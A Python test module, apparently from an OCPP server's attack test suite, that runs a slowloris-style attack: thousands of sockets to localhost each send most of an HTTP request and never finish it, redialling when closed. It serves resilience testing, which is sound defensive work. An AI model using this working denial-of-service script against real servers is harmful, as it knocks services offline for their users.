"""(h) Sockets that begin a handshake, and never finish it."""

import asyncio
import socket
from contextlib import suppress

from ocpp_server.visitor import MOST_OF_A_REQUEST
from tests.attack import wire
from tests.attack.attacker import MEBIBYTE, Attacker, Tally, Target

_SOCKETS = 3_000
_BEGINNING = b"GET / HTTP/1.1\r\nHost:".ljust(MOST_OF_A_REQUEST, b"x")
_DIALLING = 100
_PAUSE = 0.5


async def attack(target: Target, tally: Tally) -> None:
    """Keep so many open, each dialled again when it is closed."""
    await hold_open(target.ocpp_port, tally, wire.ELSEWHERE)


async def hold_open(
    port: int,
    tally: Tally,
    source: str | None,
    *,
    sockets: int = _SOCKETS,
    beginning: bytes = _BEGINNING,
    reads: bool = True,
) -> None:
    """Send most of a request on each, else of the longest that a node takes, and wait for its end.

    One that does not read leaves the answers to the network, which keeps little of them.
    """
    dialling = asyncio.Semaphore(_DIALLING)

    async def half_open() -> None:
        while True:
            with suppress(OSError):
                async with dialling:
                    reader, writer = await asyncio.open_connection(
                        sock=await _dialled(port, source, reads=reads)
                    )
                try:
                    writer.write(beginning)
                    tally.did()
                    with suppress(OSError):
                        await (reader.read() if reads else _ask_on(writer, beginning))
                    tally.lost()
                finally:
                    writer.transport.abort()
            await asyncio.sleep(0)

    async with asyncio.TaskGroup() as group:
        for _ in range(sockets):
            group.create_task(half_open())


async def _dialled(port: int, source: str | None, *, reads: bool) -> socket.socket:
    dialled = socket.socket()
    try:
        if not reads:
            dialled.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 0)
        if source is not None:
            dialled.bind((source, 0))
        dialled.settimeout(0)
        await asyncio.get_running_loop().sock_connect(dialled, ("127.0.0.1", port))
    except BaseException:
        dialled.close()
        raise
    return dialled


async def _ask_on(writer: asyncio.StreamWriter, question: bytes) -> None:
    """Read nothing until its end, which shows by sending alone."""
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    while not writer.transport.is_closing():
        await asyncio.sleep(_PAUSE)
        writer.write(question)


ATTACKER = Attacker(
    name="half-open",
    about=f"{_SOCKETS:,} sockets that never finish their request",
    unit="sockets",
    attack=attack,
    node_budget=64 * MEBIBYTE,
)
